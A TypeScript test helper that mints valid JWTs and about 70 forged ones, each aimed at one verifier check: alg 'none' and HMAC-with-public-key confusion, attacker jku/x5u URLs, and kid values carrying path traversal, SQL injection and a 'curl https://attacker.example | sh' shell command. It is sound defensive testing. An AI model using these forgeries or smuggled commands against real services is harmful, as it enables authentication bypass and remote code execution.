import { constants, createHmac, type KeyObject, randomBytes, randomUUID, sign } from 'node:crypto';
import { SIGNING_ALGORITHM } from '../tokens/signing-key';
import { ACCESS_TOKEN_AUDIENCE, type Role, SERVICE_TOKEN_AUDIENCE, TokenType } from '../tokens/token-claims';
import {
  DEFAULT_ACCESS_TOKEN_TTL_SECONDS,
  DEFAULT_SERVICE_TOKEN_TTL_SECONDS,
  TokenIssuer,
} from '../tokens/token-issuer';
import { type TestKeys } from './test-keys';

export const TEST_ISSUER = 'https://users.runnerly.test';

/** A user access token (accepted on user routes) or a service token (accepted on `@Scopes` routes). */
export type TokenKind = 'user' | 'service';

/**
 * The attacks of RFC 8725 §2, jwt_tool and crAPI, as forged tokens: each one differs from a valid token of
 * its kind in exactly one way (test-tokens.spec.ts proves it: each fails the services' checks, and passes
 * a verifier with the one weakness it targets), so that a verifier refusing it proves that one check.
 */

/** Header members that name a key or change how the token is verified (RFC 8725 §3.10, RFC 7515 §4.1). */
export const HEADER_FORGERIES = [
  "whose jku header points at the attacker's key set",
  "whose x5u header points at the attacker's certificate",
  "carrying the attacker's public key as an inline jwk",
  "carrying the attacker's certificate in x5c",
  'carrying junk in x5c',
  'with crit naming an extension no one understands',
  'with b64 false, asking for an unencoded payload',
  'with the alg member twice, "none" first',
  'with the kid member twice, a path first',
  'with a __proto__ member in its header',
  'whose header typ is "jwt", in lower case',
  'whose header typ is "JWT " with a trailing space',
  'whose header has no typ',
] as const;

/** Key ids that are not key ids: lookups by file path, SQL or shell, and kids of the wrong type or size. */
export const KID_FORGERIES = [
  'naming an unknown kid',
  'whose kid climbs to ../../../../dev/null',
  'whose kid is the absolute path /etc/passwd',
  'whose kid is an SQL injection',
  'whose kid is a shell command injection',
  'with an empty kid',
  'with a kid of 10,000 characters',
  'whose kid is a number',
  'whose kid is an object',
  'whose kid is an array holding the real kid',
  'whose kid is null',
  'whose header has no kid',
] as const;

export const SIGNATURE_FORGERIES = [
  'signed by a foreign key under the real kid',
  'with alg RS256 and an empty signature',
  'whose signature is all zero bytes, of the right length',
  'cut to two parts, without a signature',
  'with two more parts appended, as a JWE has five',
  'in JWS JSON serialization',
  "whose real signature was moved onto another subject's claims",
] as const;

/** Algorithm confusion (RFC 8725 §2.1, §3.1): `none`, HMAC keyed with the public key, other algorithms. */
export const ALGORITHM_FORGERIES = [
  'with alg "none" and no signature',
  'with alg "None" and no signature',
  'with alg "NONE" and no signature',
  'with alg "nOnE" and no signature',
  'with alg "rs256" over a real RS256 signature',
  'with alg "Rs256" over a real RS256 signature',
  'with alg "ES256" over a real RS256 signature',
  'without alg, over a real RS256 signature',
  'signed HS256 with the public key PEM as HMAC secret',
  'signed HS384 with the public key PEM as HMAC secret',
  'signed HS512 with the public key PEM as HMAC secret',
  'signed HS256 with the public key as PKCS#1 PEM as HMAC secret',
  'signed HS256 with the public key DER as HMAC secret',
  'signed HS256 with the published JWK as HMAC secret',
  'signed by the real key with RS512, an algorithm off the allowlist',
  'signed by the real key with PS256, an algorithm off the allowlist',
] as const;

/** Claims a correctly signed token must still not get past (RFC 8725 §3.8–3.11). */
export const CLAIM_FORGERIES = [
  'that expired an hour ago',
  'without exp',
  'whose exp is a string',
  'not valid before an hour from now (nbf)',
  'issued an hour from now (iat)',
  'for the other audience',
  'for its audience and another one (aud array)',
  'from another issuer',
  'with an empty sub',
  'without sub',
  'whose typ is the other kind',
  'whose typ differs only in case',
  'whose typ has a trailing space',
  'with a __proto__ member in its claims',
] as const;

/**
 * Not tokens at all, though signed by the real key: only their content is wrong. They are refused with a
 * 401 like the forgeries, but no verifier could accept them, so they are proven only to carry a real
 * signature. (A payload that is not JSON made the verifiers answer 500; JSON null made them hang.)
 */
export const MALFORMED_TOKENS = [
  'whose header is not JSON',
  'whose payload is not JSON',
  'whose payload is JSON null',
  'whose payload is a JSON array',
] as const;

/** Forgeries that apply to both kinds of token. */
export const FORGED_TOKENS = [
  ...HEADER_FORGERIES,
  ...KID_FORGERIES,
  ...SIGNATURE_FORGERIES,
  ...ALGORITHM_FORGERIES,
  ...CLAIM_FORGERIES,
  ...MALFORMED_TOKENS,
] as const;

/** Every forged user access token: the common ones, and those of the role claim. */
export const FORGED_USER_TOKENS = [
  ...FORGED_TOKENS,
  'with a role outside the allowed set',
  'with the role as an array',
] as const;

/** Every forged service token: the common ones, and those of the scope claim. */
export const FORGED_SERVICE_TOKENS = [...FORGED_TOKENS, 'with its scopes as an array'] as const;

export type ForgedToken = (typeof FORGED_USER_TOKENS)[number] | (typeof FORGED_SERVICE_TOKENS)[number];

export interface TestUser {
  userId?: string;
  role?: Role;
  sessionId?: string;
  /** When the session last entered its password. Default: now (a fresh login). */
  authenticatedAt?: Date;
  /** Whether the session entered a second factor (`amr` with `mfa`). Default: no. */
  secondFactor?: boolean;
}

export interface TestTokensOptions {
  issuer?: string;
  accessTokenTtlSeconds?: number;
  serviceTokenTtlSeconds?: number;
  /** Where `jku` and `x5u` forgeries point: a KeyUrlTrap's url. */
  keyUrl?: string;
}

type Claims = Record<string, unknown>;
type Header = Record<string, unknown>;
/** Makes the signature part of a token from its signing input. */
type Signer = (signingInput: string) => string;

/**
 * Mints tokens for tests: valid ones through the real TokenIssuer, and the forgeries attackers try,
 * signed by hand so that no library check stands in the way of making them.
 */
export class TestTokens {
  readonly issuer: string;
  readonly tokenIssuer: TokenIssuer;
  private readonly ttl: Record<TokenKind, number>;
  private readonly keyUrl?: string;

  constructor(
    private readonly keys: TestKeys,
    options: TestTokensOptions = {},
  ) {
    this.issuer = options.issuer ?? TEST_ISSUER;
    this.keyUrl = options.keyUrl;
    this.ttl = {
      user: options.accessTokenTtlSeconds ?? DEFAULT_ACCESS_TOKEN_TTL_SECONDS,
      service: options.serviceTokenTtlSeconds ?? DEFAULT_SERVICE_TOKEN_TTL_SECONDS,
    };
    this.tokenIssuer = new TokenIssuer(keys.ring, {
      issuer: this.issuer,
      accessTokenTtlSeconds: this.ttl.user,
      serviceTokenTtlSeconds: this.ttl.service,
    });
  }

  /** A valid access token of a user (role `user` unless given). */
  user(user: TestUser = {}): string {
    return this.tokenIssuer.issueAccessToken({
      userId: user.userId ?? randomUUID(),
      role: user.role ?? 'user',
      sessionId: user.sessionId ?? randomUUID(),
      authenticatedAt: user.authenticatedAt ?? new Date(),
      secondFactor: user.secondFactor ?? false,
    }).token;
  }

  admin(user: Omit<TestUser, 'role'> = {}): string {
    return this.user({ ...user, role: 'admin' });
  }

  /** A valid client-credentials token of another service. */
  service(scopes: readonly string[] = [], clientId = 'test-client'): string {
    return this.tokenIssuer.issueServiceToken({ clientId, scopes }).token;
  }

  /** The claims a valid token of this kind carries; an `undefined` override removes a claim. */
  claims(kind: TokenKind, overrides: Claims = {}): Claims {
    const iat = nowSeconds();
    const common = { iss: this.issuer, sub: randomUUID(), iat, exp: iat + this.ttl[kind], jti: randomUUID() };
    const own =
      kind === 'user'
        ? { aud: ACCESS_TOKEN_AUDIENCE, typ: TokenType.Access, role: 'user', sid: randomUUID() }
        : { aud: SERVICE_TOKEN_AUDIENCE, typ: TokenType.Service, scope: '' };
    return { ...common, ...own, ...overrides };
  }

  /**
   * Signs any claims with RS256 (or RS512): by default with the active key under its kid, as the issuer
   * would. `kid: null` leaves the kid out of the header.
   */
  signed(
    claims: Claims,
    options: { kid?: string | null; privateKey?: KeyObject; algorithm?: 'RS256' | 'RS512' } = {},
  ): string {
    const algorithm = options.algorithm ?? SIGNING_ALGORITHM;
    return this.jws({
      header: {
        alg: algorithm,
        kid: (options.kid === undefined ? this.keys.active.kid : options.kid) ?? undefined,
      },
      claims,
      signer: rsa(algorithm, options.privateKey ?? this.keys.active.privateKey!),
    });
  }

  /** A token of this kind that expired `secondsAgo` seconds ago (to test the clock tolerance too). */
  expired(kind: TokenKind = 'user', secondsAgo = 3600): string {
    const exp = nowSeconds() - secondsAgo;
    return this.signed(this.claims(kind, { iat: exp - this.ttl[kind], exp }));
  }

  /**
   * One forged token of this kind. `claims` are given to the valid claims it starts from (e.g. the `sub`
   * and `sid` of a live session), so that the forgery is refused for its flaw and nothing else.
   */
  forge(forgery: ForgedToken, kind: TokenKind = 'user', claims: Claims = {}): string {
    const table: readonly string[] = kind === 'user' ? FORGED_USER_TOKENS : FORGED_SERVICE_TOKENS;
    if (!table.includes(forgery)) throw new Error(`"${forgery}" is not a forgery of ${kind} tokens`);
    const valid = (overrides: Claims = {}) => this.claims(kind, { ...claims, ...overrides });
    return this.forgeries[forgery]({
      kind,
      claims: valid,
      jws: (parts) => this.jws({ claims: valid(), ...parts }),
    });
  }

  private readonly forgeries: Record<ForgedToken, (forging: Forging) => string> = {
    "whose jku header points at the attacker's key set": (f) =>
      f.jws({ header: { jku: `${this.trapUrl()}/jwks.json` }, signer: this.attacker() }),
    "whose x5u header points at the attacker's certificate": (f) =>
      f.jws({ header: { x5u: `${this.trapUrl()}/certificate.pem` }, signer: this.attacker() }),
    "carrying the attacker's public key as an inline jwk": (f) =>
      f.jws({ header: { jwk: this.keys.foreignPublicJwk }, signer: this.attacker() }),
    "carrying the attacker's certificate in x5c": (f) =>
      f.jws({
        header: { x5c: [this.keys.foreignCertificate.raw.toString('base64')] },
        signer: this.attacker(),
      }),
    'carrying junk in x5c': (f) =>
      f.jws({ header: { x5c: [Buffer.from('not a certificate').toString('base64')] } }),
    'with crit naming an extension no one understands': (f) =>
      f.jws({ header: { crit: ['urn:attacker:unknown'], 'urn:attacker:unknown': true } }),
    'with b64 false, asking for an unencoded payload': (f) =>
      f.jws({ header: { b64: false, crit: ['b64'] } }),
    'with the alg member twice, "none" first': (f) =>
      f.jws({ header: withMember(this.headerJson(), '"alg":"none"', 'first') }),
    'with the kid member twice, a path first': (f) =>
      f.jws({ header: withMember(this.headerJson(), '"kid":"../../../../dev/null"', 'first') }),
    'with a __proto__ member in its header': (f) =>
      f.jws({ header: withMember(this.headerJson(), '"__proto__":{"alg":"none"}', 'last') }),
    'whose header typ is "jwt", in lower case': (f) => f.jws({ header: { typ: 'jwt' } }),
    'whose header typ is "JWT " with a trailing space': (f) => f.jws({ header: { typ: 'JWT ' } }),
    'whose header has no typ': (f) => f.jws({ header: { typ: undefined } }),

    'naming an unknown kid': (f) => f.jws({ header: { kid: 'unknown-kid-0000000000000000000000000000000' } }),
    'whose kid climbs to ../../../../dev/null': (f) => f.jws({ header: { kid: '../../../../dev/null' } }),
    'whose kid is the absolute path /etc/passwd': (f) => f.jws({ header: { kid: '/etc/passwd' } }),
    'whose kid is an SQL injection': (f) =>
      f.jws({ header: { kid: "x' UNION SELECT 'attacker-secret' --" } }),
    'whose kid is a shell command injection': (f) =>
      f.jws({ header: { kid: 'key.pem; curl https://attacker.example | sh' } }),
    'with an empty kid': (f) => f.jws({ header: { kid: '' } }),
    'with a kid of 10,000 characters': (f) => f.jws({ header: { kid: 'k'.repeat(10_000) } }),
    'whose kid is a number': (f) => f.jws({ header: { kid: 1 } }),
    'whose kid is an object': (f) => f.jws({ header: { kid: { $ne: null } } }),
    'whose kid is an array holding the real kid': (f) => f.jws({ header: { kid: [this.keys.active.kid] } }),
    'whose kid is null': (f) => f.jws({ header: { kid: null } }),
    'whose header has no kid': (f) => f.jws({ header: { kid: undefined } }),

    'signed by a foreign key under the real kid': (f) => f.jws({ signer: this.attacker() }),
    'with alg RS256 and an empty signature': (f) => f.jws({ signer: () => '' }),
    'whose signature is all zero bytes, of the right length': (f) =>
      f.jws({ signer: () => Buffer.alloc(256).toString('base64url') }),
    'cut to two parts, without a signature': (f) => f.jws().split('.').slice(0, 2).join('.'),
    'with two more parts appended, as a JWE has five': (f) => [f.jws(), randomPart(), randomPart()].join('.'),
    'in JWS JSON serialization': (f) => {
      const [header, payload, signature] = f.jws().split('.');
      return JSON.stringify({ payload, protected: header, signature });
    },
    "whose real signature was moved onto another subject's claims": (f) => {
      const claims = f.claims();
      const [header, , signature] = f.jws({ claims }).split('.');
      return `${header}.${base64url(JSON.stringify({ ...claims, sub: randomUUID() }))}.${signature}`;
    },

    'with alg "none" and no signature': (f) => this.unsigned(f, 'none'),
    'with alg "None" and no signature': (f) => this.unsigned(f, 'None'),
    'with alg "NONE" and no signature': (f) => this.unsigned(f, 'NONE'),
    'with alg "nOnE" and no signature': (f) => this.unsigned(f, 'nOnE'),
    'with alg "rs256" over a real RS256 signature': (f) => f.jws({ header: { alg: 'rs256' } }),
    'with alg "Rs256" over a real RS256 signature': (f) => f.jws({ header: { alg: 'Rs256' } }),
    'with alg "ES256" over a real RS256 signature': (f) => f.jws({ header: { alg: 'ES256' } }),
    'without alg, over a real RS256 signature': (f) => f.jws({ header: { alg: undefined } }),
    'signed HS256 with the public key PEM as HMAC secret': (f) => this.hmac(f, 256, this.keys.publicKeyPem),
    'signed HS384 with the public key PEM as HMAC secret': (f) => this.hmac(f, 384, this.keys.publicKeyPem),
    'signed HS512 with the public key PEM as HMAC secret': (f) => this.hmac(f, 512, this.keys.publicKeyPem),
    'signed HS256 with the public key as PKCS#1 PEM as HMAC secret': (f) =>
      this.hmac(f, 256, this.keys.active.publicKey.export({ type: 'pkcs1', format: 'pem' })),
    'signed HS256 with the public key DER as HMAC secret': (f) =>
      this.hmac(f, 256, this.keys.active.publicKey.export({ type: 'spki', format: 'der' })),
    'signed HS256 with the published JWK as HMAC secret': (f) =>
      this.hmac(f, 256, JSON.stringify(this.keys.active.toJwk())),
    'signed by the real key with RS512, an algorithm off the allowlist': (f) =>
      f.jws({ header: { alg: 'RS512' }, signer: rsa('RS512', this.keys.active.privateKey!) }),
    'signed by the real key with PS256, an algorithm off the allowlist': (f) =>
      f.jws({ header: { alg: 'PS256' }, signer: rsa('PS256', this.keys.active.privateKey!) }),

    'that expired an hour ago': (f) => {
      const exp = nowSeconds() - 3600;
      return f.jws({ claims: f.claims({ iat: exp - this.ttl[f.kind], exp }) });
    },
    'without exp': (f) => f.jws({ claims: f.claims({ exp: undefined }) }),
    'whose exp is a string': (f) =>
      f.jws({ claims: f.claims({ exp: String(nowSeconds() + this.ttl[f.kind]) }) }),
    'not valid before an hour from now (nbf)': (f) =>
      f.jws({ claims: f.claims({ nbf: nowSeconds() + 3600 }) }),
    'issued an hour from now (iat)': (f) => f.jws({ claims: f.claims({ iat: nowSeconds() + 3600 }) }),
    'for the other audience': (f) => f.jws({ claims: f.claims({ aud: audienceOf(otherKind(f.kind)) }) }),
    'for its audience and another one (aud array)': (f) =>
      f.jws({ claims: f.claims({ aud: [audienceOf(f.kind), 'https://attacker.example'] }) }),
    'from another issuer': (f) => f.jws({ claims: f.claims({ iss: 'https://attacker.example' }) }),
    'with an empty sub': (f) => f.jws({ claims: f.claims({ sub: '' }) }),
    'without sub': (f) => f.jws({ claims: f.claims({ sub: undefined }) }),
    'whose typ is the other kind': (f) => f.jws({ claims: f.claims({ typ: typeOf(otherKind(f.kind)) }) }),
    'whose typ differs only in case': (f) =>
      f.jws({ claims: f.claims({ typ: typeOf(f.kind).toUpperCase() }) }),
    'whose typ has a trailing space': (f) => f.jws({ claims: f.claims({ typ: `${typeOf(f.kind)} ` }) }),
    'with a __proto__ member in its claims': (f) =>
      f.jws({ claims: withMember(JSON.stringify(f.claims()), '"__proto__":{"role":"admin"}', 'last') }),

    'whose header is not JSON': (f) => f.jws({ header: 'not json' }),
    'whose payload is not JSON': (f) => f.jws({ claims: 'not json' }),
    'whose payload is JSON null': (f) => f.jws({ claims: 'null' }),
    'whose payload is a JSON array': (f) => f.jws({ claims: JSON.stringify([f.claims()]) }),

    'with a role outside the allowed set': (f) => f.jws({ claims: f.claims({ role: 'superuser' }) }),
    'with the role as an array': (f) => f.jws({ claims: f.claims({ role: ['admin'] }) }),
    'with its scopes as an array': (f) => f.jws({ claims: f.claims({ scope: ['runs:purge'] }) }),
  };

  /**
   * A compact JWS: the header the issuer writes with `header`'s members over it (`undefined` removes one),
   * or a header written out as JSON; signed RS256 by the active key unless another signer is given.
   */
  private jws(parts: JwsParts & { claims: Claims | string }): string {
    const header =
      typeof parts.header === 'string' ? parts.header : JSON.stringify({ ...this.header(), ...parts.header });
    const claims = typeof parts.claims === 'string' ? parts.claims : JSON.stringify(parts.claims);
    const signingInput = `${base64url(header)}.${base64url(claims)}`;
    const signer = parts.signer ?? rsa(SIGNING_ALGORITHM, this.keys.active.privateKey!);
    return `${signingInput}.${signer(signingInput)}`;
  }

  /** The header the issuer writes. */
  private header(): Header {
    return { alg: SIGNING_ALGORITHM, typ: 'JWT', kid: this.keys.active.kid };
  }

  private headerJson(): string {
    return JSON.stringify(this.header());
  }

  private attacker(): Signer {
    return rsa(SIGNING_ALGORITHM, this.keys.foreignPrivateKey);
  }

  private unsigned(f: Forging, alg: string): string {
    return f.jws({ header: { alg }, signer: () => '' });
  }

  private hmac(f: Forging, bits: 256 | 384 | 512, secret: string | Buffer): string {
    return f.jws({
      header: { alg: `HS${bits}` },
      signer: (input) => createHmac(`sha${bits}`, secret).update(input).digest('base64url'),
    });
  }

  private trapUrl(): string {
    if (!this.keyUrl)
      throw new Error('jku and x5u forgeries need TestTokens({ keyUrl }): start a KeyUrlTrap');
    return this.keyUrl;
  }
}

/** What a forgery starts from: valid claims, and a token of them that the forgery changes. */
interface Forging {
  kind: TokenKind;
  claims(overrides?: Claims): Claims;
  jws(parts?: JwsParts): string;
}

interface JwsParts {
  header?: Header | string;
  claims?: Claims | string;
  signer?: Signer;
}

/** `Authorization` header for a bearer token, for `app.inject({ headers: bearer(token) })`. */
export function bearer(token: string): { authorization: string } {
  return { authorization: `Bearer ${token}` };
}

function rsa(algorithm: 'RS256' | 'RS512' | 'PS256', privateKey: KeyObject): Signer {
  const key = algorithm.startsWith('PS')
    ? {
        key: privateKey,
        padding: constants.RSA_PKCS1_PSS_PADDING,
        saltLength: constants.RSA_PSS_SALTLEN_DIGEST,
      }
    : privateKey;
  return (input) => sign(`sha${algorithm.slice(2)}`, Buffer.from(input), key).toString('base64url');
}

/** JSON text with one more member, written first or last: duplicates and `__proto__` need raw JSON. */
function withMember(json: string, member: string, where: 'first' | 'last'): string {
  return where === 'first' ? `{${member},${json.slice(1)}` : `${json.slice(0, -1)},${member}}`;
}

function randomPart(): string {
  return randomBytes(16).toString('base64url');
}

function base64url(text: string): string {
  return Buffer.from(text).toString('base64url');
}

function nowSeconds(): number {
  return Math.floor(Date.now() / 1000);
}

function otherKind(kind: TokenKind): TokenKind {
  return kind === 'user' ? 'service' : 'user';
}

function audienceOf(kind: TokenKind): string {
  return kind === 'user' ? ACCESS_TOKEN_AUDIENCE : SERVICE_TOKEN_AUDIENCE;
}

function typeOf(kind: TokenKind): string {
  return kind === 'user' ? TokenType.Access : TokenType.Service;
}
